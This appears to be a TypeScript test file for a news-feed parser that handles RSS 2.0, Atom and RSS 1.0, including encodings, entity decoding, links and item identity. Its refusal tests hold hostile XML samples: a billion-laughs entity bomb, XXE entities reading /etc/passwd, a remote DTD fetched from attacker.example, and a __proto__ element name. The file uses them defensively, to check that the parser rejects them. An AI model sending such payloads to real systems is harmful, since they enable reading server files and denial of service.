import { ErrorCode, SourceError, sha256Hex } from '@app/core';
import { atomFeed, encodeXml, rdfFeed, rssFeed } from '@app/testing/fake-feed-server';
import { parseFeed } from './feed-parser';

const FEED_URL = 'https://mfa.example.gov/press/rss.xml';

function parseText(xml: string, feedUrl = FEED_URL) {
  return parseFeed(Buffer.from(xml, 'utf8'), feedUrl);
}

function refusal(run: () => unknown): SourceError {
  try {
    run();
  } catch (error) {
    if (error instanceof SourceError) return error;
    throw error;
  }
  throw new Error('expected a SourceError');
}

// Real Mastodon v4.0.2 output, from /work/shared/reference/sources.md §1
const MASTODON_SAMPLE = `<rss version="2.0" xmlns:webfeeds="http://webfeeds.org/rss/1.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
 <title>John</title><description>Public posts from @pdxjohnny@mastodon.social</description>
 <link>https://mastodon.social/@pdxjohnny</link><lastBuildDate>Tue, 15 Nov 2022 16:18:15 +0000</lastBuildDate>
 <item><guid isPermaLink="true">https://mastodon.social/@pdxjohnny/109348722777644811</guid>
  <link>https://mastodon.social/@pdxjohnny/109348722777644811</link>
  <pubDate>Tue, 15 Nov 2022 16:18:15 +0000</pubDate>
  <description>&lt;p&gt;RSS VEX feeds?&lt;/p&gt;…</description></item></channel></rss>`;

describe('parseFeed: RSS 2.0', () => {
  it('reads the real Mastodon RSS shape: permalink guid, no title, escaped HTML description', () => {
    const feed = parseText(MASTODON_SAMPLE, 'https://mastodon.social/@pdxjohnny.rss');
    expect(feed).toMatchObject({
      format: 'rss2',
      title: 'John',
      link: 'https://mastodon.social/@pdxjohnny',
      language: null,
    });
    expect(feed.items).toEqual([
      {
        id: 'https://mastodon.social/@pdxjohnny/109348722777644811',
        link: 'https://mastodon.social/@pdxjohnny/109348722777644811',
        title: null,
        html: '<p>RSS VEX feeds?</p>…',
        published: '2022-11-15T16:18:15.000Z',
        updated: null,
        author: null,
        categories: [],
        enclosures: [],
        language: null,
      },
    ]);
  });

  it('reads Mastodon media:content attachments (with alt text) and tag categories', () => {
    const built = rssFeed({
      title: 'Ministry',
      link: 'https://social.example/@mfa',
      language: 'uk',
      items: [
        {
          guid: 'https://social.example/@mfa/1',
          link: 'https://social.example/@mfa/1',
          pubDate: new Date('2026-03-01T10:00:00Z'),
          description: '<p>Statement</p>',
          media: [
            {
              url: 'https://files.example/a.jpg',
              type: 'image/jpeg',
              description: 'The minister at the podium',
            },
            { url: 'https://files.example/b.mp4', type: 'video/mp4' },
          ],
          categories: ['diplomacy', 'ukraine'],
        },
      ],
    });
    const [item] = parseFeed(built.body, 'https://social.example/@mfa.rss').items;
    expect(item.enclosures).toEqual([
      {
        url: 'https://files.example/a.jpg',
        type: 'image/jpeg',
        description: 'The minister at the podium',
        medium: 'image',
      },
      { url: 'https://files.example/b.mp4', type: 'video/mp4', description: null, medium: 'video' },
    ]);
    expect(item.categories).toEqual(['diplomacy', 'ukraine']);
    expect(item.language).toBe('uk');
  });

  it('keeps an opaque guid (UNIAN shape) as the identity and the <link> as the URL', () => {
    const feed = parseText(`<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>UNIAN</title><link>https://www.unian.net/</link>
<item><title>Заява МЗС</title><link>https://www.unian.net/politics/statement.html</link>
<guid isPermaLink="false">1f3011bb42f36737c5ac0fd6d7cd3278</guid>
<pubDate>Fri, 02 Aug 2024 14:05:00 +0300</pubDate><description>Текст</description></item></channel></rss>`);
    expect(feed.items[0]).toMatchObject({
      id: '1f3011bb42f36737c5ac0fd6d7cd3278',
      link: 'https://www.unian.net/politics/statement.html',
      title: 'Заява МЗС',
      published: '2024-08-02T11:05:00.000Z',
    });
  });

  it.each([
    ['Tue, 15 Nov 22 16:18:15 +0100', '2022-11-15T15:18:15.000Z'],
    ['Tue, 15 Nov 22 16:18:15 -0500 (EST)', '2022-11-15T21:18:15.000Z'],
    ['Tue, 15 Nov 2022 16:18:15 +0100', '2022-11-15T15:18:15.000Z'],
    ['15 Nov 2022 16:18 +1000', '2022-11-15T06:18:00.000Z'],
  ])('reads the pubDate %s, with a two-digit or four-digit year and a numeric zone', (pubDate, published) => {
    const feed = parseText(
      `<rss version="2.0"><channel><title>T</title><item><guid>a</guid><pubDate>${pubDate}</pubDate></item></channel></rss>`,
    );
    expect(feed.items[0].published).toBe(published);
  });

  it('prefers content:encoded over description and keeps CDATA content as is', () => {
    const feed =
      parseText(`<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T</title>
<item><guid>a</guid><description><![CDATA[<p>Short & sweet</p>]]></description>
<content:encoded><![CDATA[<p>Full text with <b>markup</b> & an ampersand, &amp; an entity kept literally</p>]]></content:encoded></item>
<item><guid>b</guid><description><![CDATA[<p>Only a description</p>]]> and &lt;i&gt;more&lt;/i&gt;</description></item></channel></rss>`);
    expect(feed.items[0].html).toBe(
      '<p>Full text with <b>markup</b> & an ampersand, &amp; an entity kept literally</p>',
    );
    expect(feed.items[1].html).toBe('<p>Only a description</p> and <i>more</i>');
  });

  it('resolves content namespaces by URI, whatever prefix the document chose', () => {
    const feed =
      parseText(`<rss version="2.0" xmlns:c="http://purl.org/rss/1.0/modules/content/" xmlns:d="http://purl.org/dc/elements/1.1/"><channel><title>T</title>
<item><guid>a</guid><description>short</description><c:encoded>&lt;p&gt;long&lt;/p&gt;</c:encoded><d:date>2025-01-02T03:04:05+01:00</d:date><d:creator>Press Office</d:creator></item></channel></rss>`);
    expect(feed.items[0]).toMatchObject({
      html: '<p>long</p>',
      published: '2025-01-02T02:04:05.000Z',
      author: 'Press Office',
    });
  });

  it('decodes the XML entities and numeric character references exactly once', () => {
    const feed =
      parseText(`<rss version="2.0"><channel><title>A &amp; B &#8217;s &#x2014; &lt;x&gt; &quot;q&quot; &apos;</title>
<item><guid>g&amp;1</guid><title>It&#8217;s &#x201C;here&#x201D;</title>
<description>&lt;p&gt;Tom &amp;amp; Jerry &amp;lt;3 &amp;#8217;&lt;/p&gt;</description></item></channel></rss>`);
    expect(feed.title).toBe('A & B ’s — <x> "q" \'');
    expect(feed.items[0].id).toBe('g&1');
    expect(feed.items[0].title).toBe('It’s “here”');
    // the description is escaped HTML: one level of decoding leaves HTML's own entities in place
    expect(feed.items[0].html).toBe('<p>Tom &amp; Jerry &lt;3 &#8217;</p>');
  });

  it('decodes a windows-1251 feed as its XML declaration says', () => {
    const title = 'Міністерство закордонних справ';
    const body = 'Заява щодо «переговорів» — текст';
    const built = rssFeed({
      title,
      link: 'http://mid.example.ru/',
      encoding: 'windows-1251',
      items: [{ guid: 'http://mid.example.ru/news/1', title: 'Новость №1', description: `<p>${body}</p>` }],
    });
    // the bytes really are single-byte Cyrillic: "М" is 0xCC in windows-1251
    expect(built.body.includes(Buffer.from([0xcc, 0xb3, 0xed]))).toBe(true);
    expect(built.body.includes(Buffer.from('Міні', 'utf8'))).toBe(false);
    const feed = parseFeed(built.body, 'http://mid.example.ru/rss', { contentType: 'text/xml' });
    expect(feed.title).toBe(title);
    expect(feed.items[0].title).toBe('Новость №1');
    expect(feed.items[0].html).toBe(`<p>${body}</p>`);
  });

  it('decodes ISO-8859-1, and uses the HTTP charset when the document declares none', () => {
    const declared = encodeXml(
      '<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>Ministère des Affaires étrangères</title></channel></rss>',
      'iso-8859-1',
    );
    expect(parseFeed(declared, FEED_URL).title).toBe('Ministère des Affaires étrangères');
    const undeclared = encodeXml(
      '<rss version="2.0"><channel><title>Привет</title></channel></rss>',
      'windows-1251',
    );
    expect(
      parseFeed(undeclared, FEED_URL, { contentType: 'application/rss+xml; charset=windows-1251' }).title,
    ).toBe('Привет');
  });

  it('accepts a UTF-8 byte-order mark', () => {
    const bytes = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('<?xml version="1.0"?><rss version="2.0"><channel><title>Ü</title></channel></rss>'),
    ]);
    expect(parseFeed(bytes, FEED_URL).title).toBe('Ü');
  });
});

describe('parseFeed: identity and links', () => {
  it('uses guid, then normalized link, then a SHA-256 of title and date', () => {
    const feed = parseText(`<rss version="2.0"><channel><title>T</title><link>/</link>
<item><guid isPermaLink="false">opaque-1</guid><link>https://mfa.example.gov/a</link></item>
<item><link>HTTPS://MFA.Example.GOV:443/news/../b?x=1</link><title>No guid</title></item>
<item><title>Nothing else</title><pubDate>Mon, 06 Jan 2025 09:30:00 GMT</pubDate></item>
<item><guid isPermaLink="true">https://mfa.example.gov/c</guid></item></channel></rss>`);
    expect(feed.items.map((item) => item.id)).toEqual([
      'opaque-1',
      'https://mfa.example.gov/b?x=1',
      `sha256:${sha256Hex('Nothing else\n2025-01-06T09:30:00.000Z')}`,
      'https://mfa.example.gov/c',
    ]);
    // a permalink guid doubles as the item's URL when there is no <link>
    expect(feed.items[3].link).toBe('https://mfa.example.gov/c');
    expect(feed.items[2].link).toBeNull();
  });

  it('resolves relative links against the feed URL', () => {
    const feed = parseText(`<rss version="2.0"><channel><title>T</title><link>/press/</link>
<item><guid isPermaLink="false">1</guid><link>../news/2026/statement-1.html</link>
<enclosure url="/files/photo.jpg" type="image/jpeg" length="100"/></item></channel></rss>`);
    expect(feed.link).toBe('https://mfa.example.gov/press/');
    expect(feed.items[0].link).toBe('https://mfa.example.gov/news/2026/statement-1.html');
    expect(feed.items[0].enclosures[0].url).toBe('https://mfa.example.gov/files/photo.jpg');
  });

  it('does not take an opaque guid for a link', () => {
    const feed = parseText(
      '<rss version="2.0"><channel><title>T</title><item><guid isPermaLink="false">/not/a/link</guid></item></channel></rss>',
    );
    expect(feed.items[0]).toMatchObject({ id: '/not/a/link', link: null });
  });
});

describe('parseFeed: Atom', () => {
  const built = atomFeed({
    title: 'Ministry of Foreign Affairs — Press releases',
    link: 'https://mfa.example.gov/en/press',
    selfUrl: 'https://mfa.example.gov/en/press/atom.xml',
    language: 'en',
    author: 'Press Service',
    entries: [
      {
        id: 'tag:mfa.example.gov,2026:press/101',
        title: 'Statement on the situation & next steps',
        link: '/en/press/101',
        published: '2026-02-10T08:00:00Z',
        updated: '2026-02-10T09:15:00+01:00',
        content: { type: 'html', value: '<p>The Ministry <strong>condemns</strong> &amp; calls…</p>' },
        summary: '<p>ignored when content is present</p>',
        categories: ['Statements', 'Europe'],
        enclosures: [{ url: '/media/101.pdf', type: 'application/pdf', title: 'Full text' }],
      },
      {
        id: 'tag:mfa.example.gov,2026:press/102',
        title: 'Briefing',
        link: 'https://mfa.example.gov/fr/press/102',
        updated: '2026-02-11T08:00:00Z',
        author: 'Spokesperson',
        language: 'fr',
        content: { type: 'xhtml', value: '<p>Point de <em>presse</em> &amp; questions</p>' },
      },
      {
        id: 'tag:mfa.example.gov,2026:press/103',
        title: 'Plain',
        updated: '2026-02-12T08:00:00Z',
        content: { type: 'text', value: 'Line 1 <not a tag> & more\nLine 2' },
      },
      {
        id: 'tag:mfa.example.gov,2026:press/104',
        title: 'Summary only',
        updated: '2026-02-13T08:00:00Z',
        summary: '<p>Just a summary</p>',
      },
    ],
  });
  const feed = parseFeed(built.body, 'https://mfa.example.gov/en/press/atom.xml');

  it('reads the feed head', () => {
    expect(feed).toMatchObject({
      format: 'atom',
      title: 'Ministry of Foreign Affairs — Press releases',
      link: 'https://mfa.example.gov/en/press',
      language: 'en',
    });
  });

  it('reads html content, dates, categories, enclosures, and inherits the feed author and language', () => {
    expect(feed.items[0]).toEqual({
      id: 'tag:mfa.example.gov,2026:press/101',
      link: 'https://mfa.example.gov/en/press/101',
      title: 'Statement on the situation & next steps',
      html: '<p>The Ministry <strong>condemns</strong> &amp; calls…</p>',
      published: '2026-02-10T08:00:00.000Z',
      updated: '2026-02-10T08:15:00.000Z',
      author: 'Press Service',
      categories: ['Statements', 'Europe'],
      enclosures: [
        {
          url: 'https://mfa.example.gov/media/101.pdf',
          type: 'application/pdf',
          description: 'Full text',
          medium: null,
        },
      ],
      language: 'en',
    });
  });

  it('keeps xhtml content as markup without its wrapping div', () => {
    expect(feed.items[1]).toMatchObject({
      html: '<p>Point de <em>presse</em> &amp; questions</p>',
      author: 'Spokesperson',
      language: 'fr',
      published: null,
      updated: '2026-02-11T08:00:00.000Z',
    });
  });

  it('escapes text content to HTML and falls back to the summary', () => {
    expect(feed.items[2].html).toBe('Line 1 &lt;not a tag&gt; &amp; more<br>\nLine 2');
    expect(feed.items[3].html).toBe('<p>Just a summary</p>');
  });

  it('reads CDATA inside html content and an html-typed title as text', () => {
    const parsed =
      parseText(`<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">A &amp;amp; B &lt;em&gt;now&lt;/em&gt;</title>
<entry><id>urn:x:1</id><title>t</title><updated>2026-01-01T00:00:00Z</updated><content type="html"><![CDATA[<p>kept & raw</p>]]></content></entry></feed>`);
    expect(parsed.title).toBe('A & B now');
    expect(parsed.items[0].html).toBe('<p>kept & raw</p>');
  });
});

describe('parseFeed: RSS 1.0 (RDF)', () => {
  it('reads items beside the channel with Dublin Core fields', () => {
    const built = rdfFeed({
      title: 'Präsidialamt',
      link: 'https://praesident.example/',
      language: 'de',
      items: [
        {
          title: 'Erklärung',
          link: 'https://praesident.example/erklaerung-1',
          description: '<p>Kurz</p>',
          contentEncoded: '<p>Lang & ausführlich</p>',
          date: '2026-05-04T12:00:00+02:00',
          creator: 'Pressestelle',
          subjects: ['Außenpolitik'],
        },
        { title: 'Zweite', link: 'https://praesident.example/zweite' },
      ],
    });
    const feed = parseFeed(built.body, 'https://praesident.example/rss.rdf');
    expect(feed).toMatchObject({
      format: 'rss1',
      title: 'Präsidialamt',
      link: 'https://praesident.example/',
      language: 'de',
    });
    expect(feed.items).toHaveLength(2);
    expect(feed.items[0]).toEqual({
      id: 'https://praesident.example/erklaerung-1',
      link: 'https://praesident.example/erklaerung-1',
      title: 'Erklärung',
      html: '<p>Lang & ausführlich</p>',
      published: '2026-05-04T10:00:00.000Z',
      updated: null,
      author: 'Pressestelle',
      categories: ['Außenpolitik'],
      enclosures: [],
      language: 'de',
    });
  });
});

describe('parseFeed: Atom raw content', () => {
  it('keeps atom:content raw but reads media:content and other namespaces inside an entry as elements', () => {
    const feed =
      parseText(`<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/">
<title>t</title><entry><id>e1</id><title>One</title>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Body <b>bold</b></p></div></content>
<media:content url="https://cdn.example.org/a.jpg" type="image/jpeg"><media:description>A map</media:description></media:content>
</entry></feed>`);
    const [entry] = feed.items;
    expect(entry.html).toContain('<b>bold</b>');
    expect(entry.enclosures).toEqual([
      { url: 'https://cdn.example.org/a.jpg', type: 'image/jpeg', description: 'A map', medium: null },
    ]);
  });

  it('reads an element named __proto__ as an element, and refuses names that pass for attributes', () => {
    const feed = parseText(
      '<rss version="2.0"><channel><title>t</title><item><guid>g</guid><__proto__>x</__proto__><title>kept</title></item></channel></rss>',
    );
    expect(feed.items[0].title).toBe('kept');
    const error = refusal(() =>
      parseText(
        '<rss version="2.0"><channel><item><enclosure url="a"><@_url>b</@_url></enclosure></item></channel></rss>',
      ),
    );
    expect(error.message).toMatch(/is not an element name/);
  });
});

describe('parseFeed: refusals', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol4;</title></channel></rss>`;

  it('refuses a billion-laughs document', () => {
    const error = refusal(() => parseText(billionLaughs));
    expect(error.code).toBe(ErrorCode.SourceInvalidResponse);
    expect(error.message).toMatch(/^not an RSS or Atom feed: refused: .*entities/);
  });

  it('refuses external entities (XXE) and external DTDs', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>`;
    expect(refusal(() => parseText(xxe)).message).toMatch(/refused/);
    const parameterEntity = `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><rss version="2.0"/>`;
    expect(refusal(() => parseText(parameterEntity)).code).toBe(ErrorCode.SourceInvalidResponse);
    const external = `<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>t</title></channel></rss>`;
    expect(refusal(() => parseText(external)).message).toMatch(/external definition/);
    const system = `<!DOCTYPE feed SYSTEM "file:///etc/passwd"><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>`;
    expect(refusal(() => parseText(system)).message).toMatch(/external definition/);
  });

  it('accepts a bare DOCTYPE and markup quoted in CDATA', () => {
    const feed = parseText(`<!DOCTYPE rss><rss version="2.0"><channel><title>t</title>
<item><guid>1</guid><description><![CDATA[<pre>&lt;!ENTITY x SYSTEM "y"&gt; <!ENTITY z "w"></pre>]]></description></item></channel></rss>`);
    expect(feed.items[0].html).toContain('<!ENTITY z "w">');
  });

  it.each([
    [
      'an HTML page',
      '<!DOCTYPE html><html><head><title>News</title></head><body><p>Hello</body></html>',
      /root element is <html>/,
    ],
    ['JSON', '{"items":[{"title":"x"}]}', /does not start with markup/],
    ['garbage', '\u0000\u0001\u0002binary', /does not start with markup/],
    ['an empty body', '', /empty body/],
    [
      'some other XML',
      '<?xml version="1.0"?><sitemapindex><sitemap/></sitemapindex>',
      /root element is <sitemapindex>/,
    ],
  ])('refuses %s', (_label, text, reason) => {
    const error = refusal(() => parseText(text));
    expect(error.code).toBe(ErrorCode.SourceInvalidResponse);
    expect(error.message).toMatch(/^not an RSS or Atom feed: /);
    expect(error.message).toMatch(reason);
  });
});
